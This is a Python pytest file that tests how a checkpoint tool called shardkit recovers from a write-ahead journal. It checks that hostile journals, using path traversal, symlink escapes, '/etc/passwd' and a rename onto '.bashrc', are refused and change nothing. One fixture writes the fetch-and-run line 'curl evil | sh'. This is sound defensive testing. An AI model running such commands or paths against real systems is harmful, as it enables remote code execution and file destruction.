"""The write-ahead journal is shardkit's own or nothing (issue 30).

A ``.shardkit-journal.json`` that came with a downloaded folder may name only files the transaction
created inside the folder: ``.shardkit-tmp-*`` files renamed onto their own names beside them, and
the checkpoint files, indexes and manifests they replace; never a folder, never through a link.
Anything else stops recovery in one line and changes nothing, inside the folder or outside it.
Reading commands (info, verify, plan, fit) never roll a journal forward: they report it.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import helpers_boundary as b
import helpers_reliability as h
import pytest
from conftest import assert_one_line_error, invoke_cli
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

JOURNAL = ".shardkit-journal.json"
TMP = ".shardkit-tmp-1-abcd-"


def _folder(tmp_path: Path) -> tuple[Path, Path]:
    """A real checkpoint in ``tmp_path/ckpt`` and an outside folder with a secret and a victim file."""
    folder = h.write_checkpoint(tmp_path / "ckpt", h.make_tensors(4, total_bytes=4000))
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "id_rsa").write_text("PRIVATE KEY")
    (outside / "victim.safetensors").write_bytes(b"precious")
    (outside / "victim.txt").write_text("precious")
    (folder / "evil").symlink_to(outside)
    return folder, outside


def _journal(folder: Path, *, remove_first: list | None = None, renames: list | None = None,
             delete: list | None = None) -> None:
    (folder / JOURNAL).write_text(json.dumps({"remove_first": remove_first or [], "renames": renames or [],
                                              "delete": delete or []}))


HOSTILE = {
    "delete-through-linked-folder": {"delete": ["evil/victim.safetensors"]},
    "delete-txt-through-linked-folder": {"delete": ["evil/victim.txt"]},
    "delete-linked-folder-trailing-slash": {"delete": ["evil/"]},
    "delete-linked-folder": {"delete": ["evil"]},
    "remove-first-through-link": {"remove_first": ["evil/model.safetensors.index.json"]},
    "rename-onto-outside-bashrc": {"renames": [[f"{TMP}.bashrc", "evil/.bashrc"]]},
    "rename-tmp-through-link": {"renames": [[f"evil/{TMP}README.md", "evil/README.md"]]},
    "rename-outside-secret-in": {"renames": [["evil/id_rsa", "README.md"]]},
    "rename-not-a-tmp-name": {"renames": [["model.safetensors", "README.md"]]},
    "rename-onto-another-name": {"renames": [[f"{TMP}model.safetensors", "README.md"]]},
    "absolute": {"delete": ["/etc/passwd"]},
    "dotdot": {"delete": ["../outside/victim.safetensors"]},
    "deep-path": {"delete": ["a/b/c.safetensors"]},
    "delete-the-journal": {"delete": [JOURNAL]},
    "delete-a-side-file": {"delete": ["config.json"]},
    "not-a-string": {"delete": [7]},
    "control-characters": {"delete": ["x\n.safetensors"]},
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_journal_stops_recovery_and_changes_nothing(case: str, tmp_path: Path) -> None:
    folder, outside = _folder(tmp_path)
    (folder / f"{TMP}.bashrc").write_text("curl evil | sh")
    (folder / f"{TMP}model.safetensors").write_bytes(b"x")
    (folder / "config.json").write_text("{}")
    _journal(folder, **HOSTILE[case])
    src = h.write_checkpoint(tmp_path / "src", h.make_tensors(2, total_bytes=800))
    before_out, before_in = b.outside_state(tmp_path, skip=folder), b.tree(folder)
    line = assert_one_line_error(invoke_cli("recover", folder), contains=JOURNAL)  # in-process: no hang possible here
    assert "changed nothing" in line
    assert b.outside_state(tmp_path, skip=folder) == before_out
    assert b.tree(folder) == before_in
    # the next write into the folder stops the same way
    assert_one_line_error(invoke_cli("split", src, folder, "--overwrite", "-q"), contains=JOURNAL)
    assert b.outside_state(tmp_path, skip=folder) == before_out
    assert b.tree(folder) == before_in


@pytest.fixture(scope="module")
def unet_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from conftest import tiny_unet
    from helpers_load import save_model

    return save_model(tiny_unet(), tmp_path_factory.mktemp("unet") / "unet", dtype="fp16")


READING = {
    "info": [], "verify": [], "split": ["--dry-run"],
    "plan": ["--model", "diffusers:UNet2DConditionModel", "--gpu", "1GB"], "fit": ["--gpu", "1GB"],
}
HEAVY = {"plan", "fit"}


@pytest.mark.parametrize("command", list(READING))
def test_reading_commands_never_roll_a_journal_forward(command: str, unet_folder: Path, tmp_path: Path) -> None:
    """Even a well-formed journal (a real pending commit) is reported, not applied, by reading commands."""
    import shutil

    folder = tmp_path / "unet"
    shutil.copytree(unet_folder, folder)
    index = "diffusion_pytorch_model.safetensors.index.json"
    shutil.copy(folder / index, folder / f"{TMP}{index}")
    _journal(folder, renames=[[f"{TMP}{index}", index]])
    before = b.tree(folder)
    extra = [tmp_path / "out"] if command == "split" else []
    b.assert_refused(b.run_bounded(command, folder, *extra, *READING[command]), contains="shardkit recover")
    assert b.tree(folder) == before
    assert not (tmp_path / "out").exists()
    proc = b.run_bounded("recover", folder)
    assert proc.returncode == 0, proc.stderr
    assert not (folder / JOURNAL).exists() and not (folder / f"{TMP}{index}").exists()
    if command not in HEAVY:  # recovered, the folder reads again (fit/plan build the model: the same check, ~10x the time)
        assert b.run_bounded(command, folder, *extra, *READING[command]).returncode == 0


def test_verify_and_info_never_delete_through_a_linked_folder(tmp_path: Path) -> None:
    """The issue's first case: `verify`/`info` rolled this journal forward and deleted the outside file (rc 0)."""
    folder, outside = _folder(tmp_path)
    _journal(folder, delete=["evil/victim.safetensors"])
    for command in ("verify", "info"):
        b.assert_refused(b.run_bounded(command, folder), code=(1, 2))
        assert (outside / "victim.safetensors").read_bytes() == b"precious"
        assert (folder / JOURNAL).exists()


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "folder", "link-outside", "deep-json", "huge-int"])
def test_unreadable_journal_is_one_line(kind: str, tmp_path: Path) -> None:
    folder, outside = _folder(tmp_path)
    journal = folder / JOURNAL
    if kind == "fifo":
        os.mkfifo(journal)
    elif kind == "dev-zero":
        journal.symlink_to("/dev/zero")
    elif kind == "folder":
        journal.mkdir()
    elif kind == "link-outside":
        (outside / "j.json").write_text(json.dumps({"remove_first": [], "renames": [], "delete": []}))
        journal.symlink_to(outside / "j.json")
    elif kind == "deep-json":
        journal.write_text("[" * 100_000 + "]" * 100_000)
    else:
        journal.write_text('{"remove_first": [' + "1" * 5000 + '], "renames": [], "delete": []}')
    before_out, before_in = b.outside_state(tmp_path, skip=folder), b.tree(folder)
    for command in ("recover", "info", "verify"):
        b.assert_refused(b.run_bounded(command, folder), code=(1, 2))
    assert b.outside_state(tmp_path, skip=folder) == before_out
    assert b.tree(folder) == before_in


def test_own_journal_with_symlinked_final_names_still_rolls_forward(tmp_path: Path) -> None:
    """Names the journal replaces or deletes may be links themselves (an HF-cache snapshot written over):
    the link is replaced or removed, never followed."""
    from shardkit.atomic.commit import recover

    folder, outside = _folder(tmp_path)
    (folder / "evil").unlink()
    (folder / "model-00001-of-00002.safetensors").symlink_to(outside / "victim.safetensors")
    (folder / f"{TMP}model.safetensors").write_bytes(b"new")
    (folder / "model.safetensors").unlink()
    (folder / "model.safetensors").symlink_to(outside / "id_rsa")
    _journal(folder, renames=[[f"{TMP}model.safetensors", "model.safetensors"]],
             delete=["model-00001-of-00002.safetensors"])
    assert recover(str(folder))
    assert (folder / "model.safetensors").read_bytes() == b"new" and not (folder / "model.safetensors").is_symlink()
    assert not os.path.lexists(folder / "model-00001-of-00002.safetensors")
    assert (outside / "victim.safetensors").read_bytes() == b"precious"
    assert (outside / "id_rsa").read_text() == "PRIVATE KEY"


_NAMES = st.sampled_from(["model.safetensors", "evil/victim.safetensors", "evil/", "evil", "..", "../outside/id_rsa",
                          f"{TMP}model.safetensors", f"evil/{TMP}x.safetensors", "/etc/passwd", "sub/x.safetensors",
                          "model.safetensors.index.json", "x.bin", "", JOURNAL, "a\x00b", "config.json"])
_ENTRY = st.one_of(_NAMES, st.integers(), st.none(), st.lists(_NAMES, max_size=3))
_JOURNALS = st.one_of(
    st.fixed_dictionaries({"remove_first": st.lists(_ENTRY, max_size=3), "renames": st.lists(_ENTRY, max_size=3),
                           "delete": st.lists(_ENTRY, max_size=3)}),
    st.dictionaries(st.sampled_from(["remove_first", "renames", "delete", "x"]), st.lists(_ENTRY, max_size=2)),
    st.lists(_ENTRY, max_size=3), st.text(max_size=20),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(doc=_JOURNALS)
def test_fuzzed_journals_never_touch_anything_outside(doc: object, tmp_path_factory: pytest.TempPathFactory) -> None:
    """Any journal: recovery either finishes inside the folder or raises one ShardkitError; outside never changes."""
    from shardkit.atomic.journal import recover_folder
    from shardkit.errors import ShardkitError

    root = tmp_path_factory.mktemp("fuzz")
    folder = root / "ckpt"
    folder.mkdir()
    outside = root / "outside"
    outside.mkdir()
    (outside / "victim.safetensors").write_bytes(b"precious")
    (outside / "id_rsa").write_text("secret")
    (folder / "evil").symlink_to(outside)
    (folder / "sub").mkdir()
    (folder / "sub" / "x.safetensors").write_bytes(b"x")
    (folder / f"{TMP}model.safetensors").write_bytes(b"new")
    (folder / "model.safetensors").write_bytes(b"old")
    (folder / JOURNAL).write_text(json.dumps(doc) if not isinstance(doc, str) else doc)
    before = b.outside_state(root, skip=folder)
    inside = b.tree(folder)
    try:
        recover_folder(str(folder))
    except ShardkitError as e:
        assert "\n" not in str(e)
        assert b.tree(folder) == inside  # refused: nothing changed
    assert b.outside_state(root, skip=folder) == before
    assert (folder / "evil").is_symlink() and (folder / "sub").is_dir()
